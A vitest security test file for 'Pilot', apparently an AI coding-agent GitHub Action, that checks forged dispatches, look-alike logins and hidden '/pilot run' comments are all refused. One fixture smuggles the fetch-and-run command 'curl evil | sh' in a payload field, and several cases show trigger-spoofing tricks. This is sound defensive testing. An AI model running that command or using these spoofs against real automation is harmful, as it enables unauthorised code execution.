// Refusals through the runner harness (the bundled action, real Octokit against the emulator):
// bad inputs from people who may not start Pilot, and GitHub refusing Pilot's own writes. Nothing
// crashes, nothing is dispatched, no agent runs, nobody gets a reply, and the log says why.
import { chmodSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Payload } from '../events/webhook-examples.js';
import { OWNER, REPO, signedPayload, startWorld, type World } from '../world/index.js';
import { say, write } from '../world/model/index.js';
import { repositoryDispatchPayload } from '../world/runner/dispatch.js';

const STACK_TRACE = /\n\s+at .+:\d+:\d+\)?/;

interface BadInput {
  name: string;
  event: string;
  payload: (w: World, issue: number) => Payload;
}

/** A `pilot` dispatch; sent by `github-actions[bot]` (any workflow's GITHUB_TOKEN) unless `by` says who. */
function forgedDispatch(w: World, clientPayload: Record<string, unknown>, by?: string): Payload {
  const repository = w.gh.json.repo(OWNER, REPO);
  const realSender = by ? { ...w.gh.addUser(by), node_id: 'U_x' } : undefined;
  return repositoryDispatchPayload(
    { owner: OWNER, repo: REPO, event_type: 'pilot', client_payload: clientPayload },
    { repository, sender: realSender as Record<string, unknown> | undefined },
  ) as Payload;
}

/** A label event from a writer whose login arrives with an invisible or control character. */
function labelByLookalike(w: World, issue: number, login: string): Payload {
  const p = w.labelEvent(issue, 'pilot', 'mona');
  p.sender = { ...p.sender, login };
  return p;
}

const sender = (login: string, id: number, type = 'User') => ({ login, id, type });

// Table-driven on purpose: each row is a different refused trigger; the rows share a shape, not a case.
const CASES: BadInput[] = [
  {
    name: 'a forged dispatch naming a read-only sender',
    event: 'repository_dispatch',
    payload: (w, issue) => forgedDispatch(w, { issue, command: 'run', sender: sender('rita', 9001) }),
  },
  {
    name: 'a forged dispatch naming a user who does not exist',
    event: 'repository_dispatch',
    payload: (w, issue) => forgedDispatch(w, { issue, command: 'run', sender: sender('ghost-writer', 9002) }),
  },
  {
    name: 'a forged dispatch naming the Actions bot',
    event: 'repository_dispatch',
    payload: (w, issue) =>
      forgedDispatch(w, { issue, command: 'run', sender: sender('github-actions[bot]', 41898282, 'Bot') }),
  },
  {
    name: 'a forged dispatch with an extra key smuggling a command',
    event: 'repository_dispatch',
    payload: (w, issue) =>
      forgedDispatch(w, { issue, command: 'run', sender: sender('mona', 9003), shell: 'curl evil | sh' }),
  },
  {
    name: 'a forged dispatch with an unknown command',
    event: 'repository_dispatch',
    payload: (w, issue) => forgedDispatch(w, { issue, command: 'merge', sender: sender('mona', 9004) }),
  },
  {
    // A CI follow-up skips sender authorization only as GitHub's own workflow_run or Pilot's tagged dispatch.
    name: 'an untagged CI-fix dispatch naming Pilot itself, really sent by a read-only user',
    event: 'repository_dispatch',
    payload: (w, issue) =>
      forgedDispatch(
        w,
        {
          issue,
          command: 'fix',
          source: 'ci',
          sender: sender('github-actions[bot]', 41898282, 'Bot'),
          head_sha: 'a'.repeat(40),
          ci_run_id: 5,
        },
        'rita',
      ),
  },
  {
    name: 'workflow_dispatch by a read-only user',
    event: 'workflow_dispatch',
    payload: (w, issue) => w.dispatchEvent({ issue: String(issue) }, 'rita'),
  },
  {
    name: 'a dispatch naming an admin as sender, really sent by a read-only user',
    event: 'repository_dispatch',
    payload: (w, issue) => forgedDispatch(w, { issue, command: 'run', sender: sender('ada', 9010) }, 'rita'),
  },
  {
    name: 'an untagged dispatch from github-actions[bot] naming a writer',
    event: 'repository_dispatch',
    payload: (w, issue) => forgedDispatch(w, { issue, command: 'run', sender: sender('mona', 9003) }),
  },
  {
    name: 'a dispatch with a tag that does not verify, naming an admin',
    event: 'repository_dispatch',
    payload: (w, issue) =>
      forgedDispatch(w, { issue, command: 'run', sender: sender('ada', 9010), tag: 'f'.repeat(64) }),
  },
  {
    name: "a tagged dispatch naming a writer for a read-only user's comment",
    event: 'repository_dispatch',
    payload: (w, issue) => {
      const comment = w.gh.addComment(OWNER, REPO, issue, { body: '/pilot run', user: 'rita' });
      const named = {
        issue,
        command: 'run',
        sender: sender('mona', 9003),
        comment_id: comment.id,
        source: 'comment',
      };
      return forgedDispatch(w, signedPayload(named));
    },
  },
  {
    name: 'a tagged label dispatch naming a writer who did not add the label',
    event: 'repository_dispatch',
    payload: (w, issue) => {
      w.gh.addLabel(OWNER, REPO, issue, 'pilot', 'rita');
      return forgedDispatch(
        w,
        signedPayload({ issue, command: 'run', sender: sender('mona', 9003), source: 'label' }),
      );
    },
  },
  {
    name: "the label added by ' mona' (a writer's login with a leading space)",
    event: 'issues',
    payload: (w, issue) => labelByLookalike(w, issue, ' mona'),
  },
  {
    name: 'the label added by mona + a zero-width space',
    event: 'issues',
    payload: (w, issue) => labelByLookalike(w, issue, 'mona\u200B'),
  },
  {
    name: 'the label added by mona + a control character',
    event: 'issues',
    payload: (w, issue) => labelByLookalike(w, issue, 'mo\u0007na'),
  },
  {
    name: 'the label added by mona + a newline',
    event: 'issues',
    payload: (w, issue) => labelByLookalike(w, issue, 'mona\n'),
  },
  {
    name: 'the label added by a look-alike of an allowed bot that is a User',
    event: 'issues',
    payload: (w, issue) => {
      const p = w.labelEvent(issue, 'pilot', 'rita');
      p.sender = sender('renovate[bot]', 9005, 'User');
      return p;
    },
  },
  {
    name: 'the label added by a look-alike of the Actions bot',
    event: 'issues',
    payload: (w, issue) => w.labelEvent(issue, 'pilot', 'github-actions-bot'),
  },
  {
    name: 'the label added by a denied writer',
    event: 'issues',
    payload: (w, issue) => w.labelEvent(issue, 'pilot', 'dan'),
  },
  {
    name: '`/pilot run` from a read-only commenter',
    event: 'issue_comment',
    payload: (w, issue) => w.commentEvent(issue, '/pilot run', 'rita'),
  },
  {
    name: '`/pilot run` after a zero-width space, from an outsider',
    event: 'issue_comment',
    payload: (w, issue) => w.commentEvent(issue, '\u200B/pilot run', 'eve'),
  },
  {
    name: 'a quoted `> /pilot run` from a writer',
    event: 'issue_comment',
    payload: (w, issue) => w.commentEvent(issue, '> /pilot run\n\nThis is what I typed.', 'mona'),
  },
  {
    name: '`/pilot run` inside a code block from a writer',
    event: 'issue_comment',
    payload: (w, issue) => w.commentEvent(issue, '```\n/pilot run\n```', 'mona'),
  },
  {
    name: '`/pilot run` inside an HTML comment from a writer',
    event: 'issue_comment',
    payload: (w, issue) => w.commentEvent(issue, '<!-- /pilot run -->', 'mona'),
  },
  {
    name: 'a look-alike `／pilot run` (fullwidth slash) from a writer',
    event: 'issue_comment',
    payload: (w, issue) => w.commentEvent(issue, '／pilot run', 'mona'),
  },
];

describe('bad inputs through the runner harness', () => {
  let w: World;
  let issue: number;
  const tally = { cases: 0, crashes: 0, dispatches: 0, agentRuns: 0, comments: 0, unexplained: 0 };

  beforeAll(async () => {
    w = await startWorld({ script: [say('should never run')], inputs: { 'deny-users': 'dan' } });
    w.gh.setPermission(OWNER, REPO, 'mona', 'write');
    w.gh.setPermission(OWNER, REPO, 'dan', 'admin');
    w.gh.setPermission(OWNER, REPO, 'rita', 'read');
    w.gh.setPermission(OWNER, REPO, 'ada', 'admin');
    issue = w.gh.addIssue(OWNER, REPO, { title: 'Add a farewell helper', body: 'Please.', user: 'eve' });
  });

  afterAll(async () => {
    console.log(`security bad inputs via harness: ${JSON.stringify(tally)}`);
    await w?.close();
  });

  it.each(CASES)('$name: nothing happens and the log says why', async ({ event, payload }) => {
    const dispatchesBefore = w.gh.dispatches().length;
    const runs = await w.run(event, payload(w, issue));
    tally.cases++;
    const [run] = runs;
    const crashed = run.exitCode !== 0 || STACK_TRACE.test(run.log);
    const explained = /Pilot (refuses|ignores|skips)|not a valid Pilot dispatch/i.test(run.log);
    tally.crashes += crashed ? 1 : 0;
    tally.dispatches += w.gh.dispatches().length - dispatchesBefore;
    tally.agentRuns += w.model.requests.length;
    tally.comments += w.pilotComments(issue).length;
    tally.unexplained += explained ? 0 : 1;

    expect(runs, run.log).toHaveLength(1);
    expect(crashed, run.log).toBe(false);
    expect(w.gh.dispatches()).toHaveLength(dispatchesBefore);
    expect(w.model.requests).toHaveLength(0);
    expect(w.pilotComments(issue)).toHaveLength(0);
    expect(w.gh.reactions(OWNER, REPO, { issue })).toHaveLength(0);
    expect(explained, run.log).toBe(true);
  });
});

describe('GitHub refuses a write: a plain message, not a stack trace', () => {
  let world: World | undefined;
  afterAll(async () => {
    await world?.close();
  });

  async function setup() {
    await world?.close();
    world = await startWorld({
      script: [write('src/farewell.js', 'export const farewell = () => "bye";\n'), say('Added it.')],
    });
    world.gh.setPermission(OWNER, REPO, 'mona', 'write');
    const n = world.gh.addIssue(OWNER, REPO, {
      title: 'Add a farewell helper',
      body: 'Please.',
      user: 'mona',
    });
    return { w: world, n };
  }

  function expectPlainFailure(
    run: { exitCode: number | null; log: string; annotations: Array<{ level: string; message: string }> },
    pattern: RegExp,
  ) {
    expect(run.exitCode).toBe(1);
    const errors = run.annotations.filter((a) => a.level === 'error').map((a) => a.message);
    expect(
      errors.some((m) => pattern.test(m)),
      errors.join('\n'),
    ).toBe(true);
    expect(run.log).not.toMatch(STACK_TRACE);
  }

  it('a locked conversation', async () => {
    const { w, n } = await setup();
    w.gh.injectFault({
      method: 'POST',
      path: /\/issues\/\d+\/comments$/,
      status: 403,
      body: {
        message: 'Unable to create comment because issue is locked.',
        documentation_url: 'https://docs.github.com/articles/locking-conversations/',
      },
      times: 10,
    });
    const runs = await w.run('issues', w.labelEvent(n, 'pilot', 'mona'));
    expect(runs).toHaveLength(1);
    expectPlainFailure(runs[0], /conversation is locked/);
    expect(w.gh.dispatches()).toHaveLength(0);
  });

  it('an archived repository', async () => {
    const { w, n } = await setup();
    w.gh.injectFault({
      path: /^\/repos\//,
      method: 'POST',
      status: 403,
      body: {
        message: 'Repository was archived so is read-only.',
        documentation_url: 'https://docs.github.com/rest',
      },
      times: 100,
    });
    const runs = await w.run('issues', w.labelEvent(n, 'pilot', 'mona'));
    expect(runs).toHaveLength(1);
    expectPlainFailure(runs[0], /repository is archived/);
  });

  it('a ruleset rejecting the push', async () => {
    const { w, n } = await setup();
    const hook = path.join(w.git.origin, 'hooks', 'pre-receive');
    writeFileSync(
      hook,
      '#!/bin/sh\necho "error: GH013: Repository rule violations found for refs/heads/pilot/issue-1." >&2\necho "- Commits must have verified signatures." >&2\nexit 1\n',
    );
    chmodSync(hook, 0o755);
    const runs = await w.run('issues', w.labelEvent(n, 'pilot', 'mona'));
    const work = runs.at(-1);
    expect(work?.exitCode).toBe(1);
    expect(work?.log).not.toMatch(STACK_TRACE);
    expect(await w.git.branches()).not.toContain('pilot/issue-1-add-a-farewell-helper');
    const tracking = w.pilotComments(n)[0].body;
    expect(tracking).toContain('ruleset');
    expect(tracking).toContain('Commits must have verified signatures.');
  });
});
